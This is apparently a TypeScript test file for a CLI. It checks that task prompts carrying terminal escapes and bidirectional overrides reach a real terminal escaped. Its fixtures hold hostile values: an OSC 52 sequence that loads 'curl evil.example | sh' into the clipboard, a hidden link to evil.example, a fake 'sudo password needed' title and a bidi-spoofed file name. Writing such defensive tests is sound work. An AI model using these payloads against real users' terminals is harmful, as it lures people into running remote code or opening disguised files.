// Issue 48, item 4: a task's prompt holding terminal escapes (OSC 52 writes the clipboard, OSC 8
// hides a link, OSC 0 sets the window title) and bidirectional overrides, printed to a real
// terminal (test/helpers/pty.ts) with --jq, --json and the detail view: the terminal receives none
// of them raw. Piped, --jq's output stays byte for byte the service's string.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { against, tempDir } from '../helpers/cli.js';
import { ptyAgentctl } from '../helpers/pty.js';
import { sendJson, stubServer } from '../helpers/stub-server.js';

const ID = '3f2b8c1e-5d4a-4c7b-9e2f-1a2b3c4d5e6f';
const CLIPBOARD = `\x1b]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\x07`;
const HIDDEN_LINK = '\x1b]8;;https://evil.example/\x1b\\docs\x1b]8;;\x1b\\';
const TITLE = '\x1b]0;sudo password needed\x07';
// "invoice_cod.exe" shown as "invoice_exe.doc": an override, and an isolate.
const BIDI = 'invoice_\u202eexe.doc and \u2066isolated\u2069';
const PROMPT = `Summarise ${CLIPBOARD}${HIDDEN_LINK}${TITLE} ${BIDI}`;
const task = { id: ID, prompt: PROMPT, status: 'completed', created_at: '2026-05-01T08:00:00Z', updated_at: '2026-05-01T08:00:00Z' };

let stub: Awaited<ReturnType<typeof stubServer>>;
beforeAll(async () => {
  // A create is refused with the prompt's text in its error; everything else answers the task.
  stub = await stubServer((request, response) =>
    request.method === 'POST' ? sendJson(response, 400, { detail: `refused: \u009b2J ${BIDI}` }) : sendJson(response, 200, task),
  );
});
afterAll(() => stub.close());

// eslint-disable-next-line no-control-regex
const RAW = /\x1b\]|\x07|[\u202a-\u202e\u2066-\u2069]/;

describe('a prompt holding terminal escapes and bidirectional overrides', () => {
  it.each([
    ['--jq .prompt', ['--jq', '.prompt']],
    ['--jq with a string built from it', ['--jq', '"prompt: \\(.prompt)"']],
    ['--json', ['--json']],
    ['the detail view', []],
  ])('reaches a terminal escaped: %s', async (_name, flags) => {
    const run = ptyAgentctl(['tasks', 'get', ID, ...flags], { columns: 200, env: { AGENTCTL_BASE_URL: stub.baseUrl, AGENTCTL_API_KEY: 'k' } });
    const { exitCode, output } = await run.done();
    expect(exitCode, output).toBe(0);
    expect(output).not.toMatch(RAW);
    // Shown, not obeyed: the sequences are there to read.
    expect(output).toMatch(/(\\u001b|\\x1b)\]52;c;/);
    expect(output).toMatch(/invoice_\\u202eexe\.doc/);
  });

  it('reaches a terminal escaped: a run-batch outcome line quoting the service', async () => {
    const file = join(tempDir(), 'prompts.txt');
    writeFileSync(file, 'one prompt\n');
    const run = ptyAgentctl(['tasks', 'run-batch', file], { columns: 200, env: { AGENTCTL_BASE_URL: stub.baseUrl, AGENTCTL_API_KEY: 'k' } });
    const { output } = await run.done();
    expect(output).toMatch(/"status":"rejected"/);
    expect(output).not.toMatch(/[\u009b\u202a-\u202e\u2066-\u2069]/);
    expect(output).toMatch(/\\u009b2J invoice_\\u202eexe\.doc/);
  });

  it('piped, --jq prints the exact string (scripts get the bytes the service sent)', async () => {
    const result = await against(stub.baseUrl)(['tasks', 'get', ID, '--jq', '.prompt']);
    expect(result.exitCode, result.stderr).toBe(0);
    expect(result.stdout).toBe(`${PROMPT}\n`);
  });
});
